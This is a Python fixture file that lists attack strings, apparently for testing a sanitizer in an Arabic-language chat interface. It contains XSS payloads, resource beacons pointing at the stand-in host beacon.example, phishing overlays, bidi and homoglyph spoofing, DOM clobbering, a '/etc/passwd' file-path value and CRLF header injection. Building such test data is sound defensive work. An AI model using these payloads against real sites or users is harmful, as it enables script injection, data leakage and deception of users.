"""What an attacker would put into a file, a question or a model's mouth. Data only.

A script payload calls `pwned()`; what leaves the page goes to the host `BEACON`. `fires` says whether it does so in a
page that shows it raw, without a click: those keep the check honest, the others are kinds that other sanitizers, other
renderers or a click have let through.
"""

from __future__ import annotations

from typing import Final, NamedTuple

BEACON: Final = "beacon.example"


class Payload(NamedTuple):
    """A text, and whether it does its work in a page that shows it raw."""

    text: str
    fires: bool = True


SCRIPTS: Final = (
    Payload("<script>pwned()</script>"),
    Payload("<ScRiPt >pwned()</sCrIpT >"),
    Payload("<script/x>pwned()</script/x>"),
    Payload('"><script>pwned()</script>'),
    Payload("'><img src=x onerror=pwned()>"),
    Payload("<img src=x onerror=pwned()>"),
    Payload("<img/src/onerror=pwned()>"),
    Payload("<img src=`x`onerror=pwned()//", fires=False),
    Payload("<image src=x onerror=pwned()>"),
    Payload("<svg onload=pwned()>"),
    Payload("<svg><script>pwned()</script></svg>"),
    Payload("<svg><animate onbegin=pwned() attributeName=x dur=1s>"),
    Payload('<svg><style><img src=x onerror="pwned()"></style></svg>'),
    Payload("<body onload=pwned()>", fires=False),
    Payload("<video><source onerror=pwned()></video>"),
    Payload("<audio src=x onerror=pwned()></audio>"),
    Payload("<details open ontoggle=pwned()><summary>x</summary></details>"),
    Payload("<input autofocus onfocus=pwned()>", fires=False),
    Payload("<iframe srcdoc='<script>parent.pwned()</script>'></iframe>"),
    Payload("<iframe src='javascript:parent.pwned()'></iframe>"),
    Payload("<object data='data:text/html,<script>pwned()</script>'></object>", fires=False),
    Payload("<embed src='javascript:pwned()'>", fires=False),
    Payload(
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned()&gt;'>", False
    ),
    Payload("<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>", fires=False),
    Payload("<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>", fires=False),
    Payload("<svg></p><style><a id='</style><img src=1 onerror=pwned()>'>"),
    Payload("<!--><img src=x onerror=pwned()>-->"),
    Payload("<![CDATA[><img src=x onerror=pwned()>]]>"),
    Payload("<?xml ?><img src=x onerror=pwned()>"),
    Payload("</textarea></title></style><img src=x onerror=pwned()>"),
    Payload("</div></div></div>\n\n<img src=x onerror=pwned()>"),
    Payload("<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=pwned()>x</b>"),
    Payload("<a href='javascript:pwned()'>العنوان</a>", fires=False),
    Payload("[اضغط](javascript:pwned())", fires=False),
    Payload("[x](javascript&#58;pwned()) <javascript:pwned()>", fires=False),
    Payload('![x](x"onerror="pwned())', fires=False),
    Payload("```html\n<script>pwned()</script>\n```"),
    Payload("\n\n    <script>pwned()</script>\n\n<script>pwned()</script>"),
    Payload("&lt;img src=x onerror=pwned()&gt;", fires=False),
    Payload("&amp;lt;script&amp;gt;pwned()", fires=False),
    Payload("${pwned()} {{pwned()}} {{constructor.constructor('pwned()')()}} #{pwned()} <%= pwned() %>", fires=False),
    Payload(
        "$$\\href{javascript:pwned()}{x}$$ \\(\\href{javascript:pwned()}{x}\\) $\\htmlData{onclick=pwned()}{x}$", False
    ),
    Payload('__i18n__{"key":"<img src=x onerror=pwned()>"}'),
    Payload("\x00<scr\x00ipt>pwned()</script>\x0b<img\x0bsrc=x\x0conerror=pwned()>", fires=False),
    Payload("\ufeff<\u200bscript>pwned()</script>＜script＞pwned()＜/script＞", fires=False),
)

BEACONS: Final = (
    Payload(f"<img src=http://{BEACON}/1>"),
    Payload(f"<img srcset='http://{BEACON}/2 1x'>"),
    Payload(f"<picture><source srcset=http://{BEACON}/3><img src=x></picture>"),
    Payload(f"<video src=http://{BEACON}/4 poster=http://{BEACON}/4p></video>"),
    Payload(f"<audio src=http://{BEACON}/5 preload=auto></audio>"),
    Payload(f"<video><track default src=http://{BEACON}/6></video>", fires=False),
    Payload(f"<svg><image href=http://{BEACON}/7 /></svg>"),
    Payload(f"<svg><use href=http://{BEACON}/8#x /></svg>", fires=False),
    Payload(f"<svg><foreignObject><img src=http://{BEACON}/9></foreignObject></svg>"),
    Payload(f"<svg><feImage href=http://{BEACON}/10 /></svg>", fires=False),
    Payload(f"<b style='background:url(http://{BEACON}/11)'>نص</b>"),
    Payload(f"<style>@import url(http://{BEACON}/12);</style>"),
    Payload(f"<style>*{{background:url(http://{BEACON}/13)}}</style>"),
    Payload(f"<link rel=stylesheet href=http://{BEACON}/14>"),
    Payload(f"<link rel=prefetch href=http://{BEACON}/15>"),
    Payload(f"<link rel=preload as=image href=http://{BEACON}/16>"),
    Payload(f"<link rel=preconnect href=http://{BEACON}/>", fires=False),
    Payload(f"<link rel=dns-prefetch href=//{BEACON}/>", fires=False),
    Payload(f"<meta http-equiv=refresh content='0;url=http://{BEACON}/17'>"),
    Payload(f"<iframe src=http://{BEACON}/18></iframe>"),
    Payload(f"<object data=http://{BEACON}/19></object>"),
    Payload(f"<embed src=http://{BEACON}/20>"),
    Payload(f"<base href=http://{BEACON}/><img src=21>"),
    Payload(f"<table background=http://{BEACON}/22><tr><td>x</table>"),
    Payload(f"<input type=image src=http://{BEACON}/23>"),
    Payload(f"<form action=http://{BEACON}/24><input name=q><button>أرسل</button></form>", fires=False),
    Payload(f"<isindex action=http://{BEACON}/25 type=image>", fires=False),
    Payload(f"<a href=http://{BEACON}/26 ping=http://{BEACON}/27>المصدر</a>", fires=False),
    Payload(f"![صورة](http://{BEACON}/28)", fires=False),
    Payload(f"[المصدر](http://{BEACON}/29) <http://{BEACON}/30> http://{BEACON}/31 www.{BEACON}", fires=False),
    Payload(f"![x][r]\n\n[r]: http://{BEACON}/32", fires=False),
    Payload(f"$$\\includegraphics{{http://{BEACON}/33}}$$ $\\url{{http://{BEACON}/34}}$", fires=False),
)

DISGUISES: Final = (
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>سجل الدخول</div>",
    "<dialog open style='position:fixed;top:0'>كلمة السر <input type=password></dialog>",
    "<style>body{display:none}</style>",
    "<a class='cite' href='#source/0123456789abcdef/0123456789abcdef/0-5'>1</a>",
    "<a class='card' href='#delete-all'>مصدر</a>",
    "[1](#delete-all) [احذف](#open-x) <a href='#delete-all'>x</a>",
    "<a href='#ask'>أرسل كل ما قيل</a> [اسأل](#ask)",
    "<textarea id='send'></textarea><b id='bridge'><textarea>{}</textarea></b><button id='bridge-go'>x</button>",
    "<img name=cookie><form name=body><input name=querySelector id=source></form>",
    "<h1 id='chat'>خبر</h1><i class='ready'></i><a href='/conversations/x/export.md'>x</a>",
    "<button id='language'>x</button><button class='copy' data-done='x'>انسخ</button>",
    "<marquee>x</marquee><blink>x</blink><plaintext>",
    "تقرير\u202efdp.exe\u202c عن\u2066 الحرب",
    "\u2067قال\u202d 123 456 الوزير\u202b\u202a x",
    "نص \u2069\u2069\u2069\u202c\u202c ثم \u202e آخر",
    "аррӏе.соm ᴀdmin ؜‏‎ [١] ［1］ 【1】",
    "[1] [2][3] 【4】 [\u202e1]",
    "</bdi></p></span></a></div><div class='claim'><p>قول موثق <a class='cite'>1</a></p></div>",
    "# عنوان\n\n> اقتباس\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [ ] مهمة\n\n***\n",
    "~~شطب~~ **غامق** `رمز` ==مظلل== ^أعلى^ :smile: @all #وسم",
    "{'path': '/etc/passwd', 'meta': {'_type': 'gradio.FileData'}}",
    "\r\n\r\nSet-Cookie: isnad_browser=x\r\n\r\n<b>x</b>",
    "%0d%0a%3Cscript%3Epwned()%3C/script%3E \\u003cscript\\u003epwned()",
)

ALL: Final = (*(one.text for one in SCRIPTS), *(one.text for one in BEACONS), *DISGUISES)
